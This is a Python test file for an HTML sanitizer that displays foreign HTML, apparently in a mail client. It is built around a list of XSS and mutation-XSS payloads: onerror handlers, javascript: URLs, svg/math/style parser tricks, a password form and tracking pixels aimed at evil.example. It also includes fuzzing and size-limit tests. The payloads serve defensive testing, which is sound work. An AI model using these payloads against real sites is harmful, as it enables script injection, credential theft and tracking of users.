"""`transforms.text_display`: foreign HTML that a browser may show."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from transforms.text_display import DISPLAY_LIMIT, display_html

_MAY_STAY = {"href", "src", "data-blocked-src", "alt", "width", "height", "dir", "lang", "style", "title", "rel"} | {
    "target", "colspan", "rowspan", "align", "valign", "scope", "start", "type", "value", "span"
}  # fmt: skip

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='--&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "<table><td><style></td></table><img src=x onerror=alert(1)></style>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0;z-index:9999;opacity:0'><a href='https://evil.example'>x</a></div>",
    "<div style=\"background:url('https://evil.example/p.gif')\">x</div>",
    "<p style='font-weight:expression(alert(1))'>x</p>",
    "<p style='font-weight:bold;color:#fff;font-size:0'>x</p>",
    "<p style='list-style-type:\\75 rl(https://evil.example)'>x</p>",
    "<img src='https://evil.example/p.gif' srcset='https://evil.example/q.gif 2x'>",
    "<img src='//evil.example/p.gif'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img data-blocked-src='javascript:alert(1)' src='https://evil.example/p.gif'>",
    "<img alt='\" src=\"https://evil.example/p.gif' src='cid:a@b.example'>",
    "<video poster='https://evil.example/p.gif' src='https://evil.example/v.mp4'></video>",
    "<link rel=stylesheet href='https://evil.example/s.css'>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<body background='https://evil.example/p.gif' onload=alert(1)>x",
    "<table background='https://evil.example/p.gif'><td>x</td></table>",
    "<p id=location name=cookie class=modal>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<a ping='https://evil.example' href='https://shop.example'>x</a>",
]  # fmt: skip


def assert_safe(shown: str) -> None:
    """Look at what a browser would: the elements and attributes of the result, read anew."""
    if not shown.strip():
        return
    for element in lxml_html.fragment_fromstring(shown, create_parent="div").iter():
        assert isinstance(element.tag, str), "a comment or an instruction is left"
        assert element.tag not in (
            "script",
            "style",
            "iframe",
            "form",
            "input",
            "object",
            "svg",
            "math",
            "template",
        )
        for name, value in element.attrib.items():
            assert name in _MAY_STAY, (element.tag, name)
            if name == "href":
                assert re.match(r"(https?|mailto|tel):", value.strip())
            if name == "src":
                assert re.match(r"cid:|data:image/(png|jpe?g|gif|webp);base64,", value)
            if name == "data-blocked-src":
                assert re.match(r"https?://", value)
            if name == "style":
                assert not re.search(
                    r"position|opacity|display|color|size|url|expression|\\", value
                )
        if element.tag == "a" and "href" in element.attrib:
            assert element.get("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_nothing_is_fetched_nothing_hides(payload: str) -> None:
    shown = display_html(f"<p>before</p>{payload}<p>after</p>")
    assert_safe(shown)
    assert "before" in shown
    # What a browser makes of the result and writes again is as safe: no mutation undoes the cleaning.
    assert display_html(shown) == shown
    assert_safe(display_html(shown.replace("<div>", "<div><p>")))


_BITS = st.sampled_from(
    [
        *("<svg>", "<math>", "<style>", "</style>", "<!--", "-->", "<table>", "<td>", "<p title='", "'>", "<form>"),
        *("<img src=x onerror=alert(1)>", "<img src='https://e.example/p.gif' alt='<img src=", "</p>", "<a href='"),
        *("https://e.example", "javascript:alert(1)", '"', "'", ">", "<", "&lt;", "&#x3c;", "<noscript>", "</noscript>"),
        *("<mtext>", "<mglyph>", "<annotation-xml encoding='text/html'>", "<title>", "</title>", "<b>", "text", " src="),
    ]
)  # fmt: skip


@given(st.lists(_BITS, max_size=15).map("".join))
def test_no_mixture_of_tags_gets_through(html: str) -> None:
    shown = display_html(html)
    assert_safe(shown)
    assert display_html(shown) == shown


def test_remote_pictures_are_blocked_and_their_address_kept() -> None:
    html = '<img src="https://shop.example/a.png?b=1&amp;c=2" alt="Lamp"><img src="cid:1@shop.example">'
    assert display_html(html) == (
        '<img data-blocked-src="https://shop.example/a.png?b=1&amp;c=2" alt="Lamp"><img src="cid:1@shop.example">'
    )
    assert 'src="https://shop.example/a.png?b=1&amp;c=2"' in display_html(html, remote_images=True)


def test_what_people_write_stays() -> None:
    html = (
        '<h2>Hi</h2><p style="text-align:center"><b>bold</b> <a href="https://shop.example/?a=1">link</a></p>'
        "<ul><li>one</li></ul><table><tbody><tr><td colspan=2>cell</td></tr></tbody></table><pre>x  y</pre>"
        "<blockquote>q</blockquote>"
    )
    shown = display_html(html)
    for piece in (
        "<h2>Hi</h2>",
        "text-align:center",
        "<b>bold</b>",
        "<li>one</li>",
        'colspan="2"',
        "x  y",
    ):
        assert piece in shown
    assert '<a href="https://shop.example/?a=1" target="_blank" rel="noopener' in shown


@pytest.mark.parametrize(
    "html", ["<div>" * 100_000 + "deep", "x" * (DISPLAY_LIMIT + 1) + "<b>", "<p>" * 100_000]
)
def test_hostile_size_is_shown_as_text_in_time(html: str) -> None:
    began = time.perf_counter()
    shown = display_html(html)
    assert time.perf_counter() - began < 30
    assert_safe(shown[:10_000].rsplit("<", 1)[0] if len(shown) > 10_000 else shown)
